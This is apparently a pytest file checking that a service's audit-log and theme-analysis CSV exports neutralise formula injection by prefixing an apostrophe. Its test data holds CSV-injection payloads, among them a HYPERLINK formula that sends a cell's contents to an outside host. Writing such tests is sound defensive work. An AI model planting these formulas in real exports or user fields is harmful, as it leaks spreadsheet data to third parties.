"""No CSV the service writes can run as a formula in a spreadsheet (csv_cells.py).

A name or theme typed as ``=HYPERLINK(...)`` comes out with an apostrophe in front, in
every export.
"""

from __future__ import annotations

import csv
import io

import pytest

from narrative_service.extensions import db
from narrative_service.themes.models import ThemeTag
from tests.factories import make_narrative, make_theme, make_user

FORMULAS = [
    '=HYPERLINK("https://example.com/?d="&A1, "Open")',
    "+1",
    "-2",
    "@x",
    "\tx",
    "\rx",
]


def cells(response) -> list[list[str]]:
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


@pytest.mark.parametrize("typed", FORMULAS)
def test_the_audit_log_export_neutralises_a_formula_in_a_name(app, client_as, typed):
    person = make_user("advocate", name=typed, email="formula@example.nhs.uk")
    client_as(person).get("/narratives")
    rows = cells(client_as("lead").get(f"/audit/export.csv?user={person.id}"))
    assert {row[1] for row in rows[1:]} == {f"'{typed} <formula@example.nhs.uk>"}


@pytest.mark.parametrize("typed", FORMULAS)
def test_the_theme_counts_export_neutralises_a_formula_in_a_theme(app, users, client_as, typed):
    narrative = make_narrative(users["advocate"], status="complete")
    theme = make_theme("experience.typed_by_a_lead", name=typed)
    db.session.add(
        ThemeTag(
            theme_id=theme.id,
            subject_type="narrative",
            subject_id=narrative.id,
            start_char=0,
            end_char=6,
            quote="Nobody",
            origin="manual",
            status="accepted",
        )
    )
    db.session.commit()
    rows = cells(client_as("lead").get("/themes/analysis.csv"))
    assert [row[1] for row in rows if row[0] == "experience.typed_by_a_lead"] == [f"'{typed}"]
